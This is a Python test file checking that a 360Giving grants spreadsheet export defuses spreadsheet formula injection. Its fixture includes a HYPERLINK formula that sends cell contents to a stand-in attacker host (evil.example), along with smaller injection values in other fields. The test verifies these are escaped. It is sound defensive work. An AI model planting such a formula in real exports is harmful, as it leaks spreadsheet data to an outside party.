"""The 360Giving spreadsheet is written by flattentool, not by our writer: it is passed through
app/core/spreadsheets.py afterwards, so a grant's title cannot run as a formula (issue 12,
item 7: "in every export, with one shared writer")."""

import json

from openpyxl import load_workbook

from app.opendata.services.spreadsheet import write_360giving_xlsx

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


def test_text_cells_of_the_360giving_spreadsheet_are_defused(tmp_path):
    source = tmp_path / "grants.json"
    source.write_text(json.dumps({"grants": [{
        "id": "360G-test-1", "title": HOSTILE, "description": "@SUM(1+1)",
        "currency": "EUR", "amountAwarded": 1000, "awardDate": "2026-01-01",
        "recipientOrganization": [{"id": "XI-PIC-1", "name": "-2+3"}],
        "fundingOrganization": [{"id": "XI-PIC-2", "name": "Funder"}]}]}))
    target = tmp_path / "grants.xlsx"
    write_360giving_xlsx(source, target)
    sheet = load_workbook(target)["grants"]
    header = [cell.value for cell in sheet[1]]
    row = {title: cell for title, cell in zip(header, sheet[2], strict=False)}
    assert row["Title"].value == "'" + HOSTILE and row["Title"].data_type == "s"
    assert row["Description"].value == "'@SUM(1+1)"
    assert row["Amount Awarded"].value == 1000  # numbers stay numbers
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line
                if cell.data_type == "f"]
    assert not list(tmp_path.glob("*.rewriting"))
